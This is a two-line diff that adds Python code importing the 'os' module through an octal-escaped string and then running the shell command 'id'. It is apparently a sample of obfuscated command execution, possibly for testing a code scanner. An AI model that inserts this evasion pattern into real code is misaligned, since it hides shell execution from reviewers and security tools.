@@ -1,0 +1,2 @@
+mod = __import__("\157\163")
+mod.system("id")
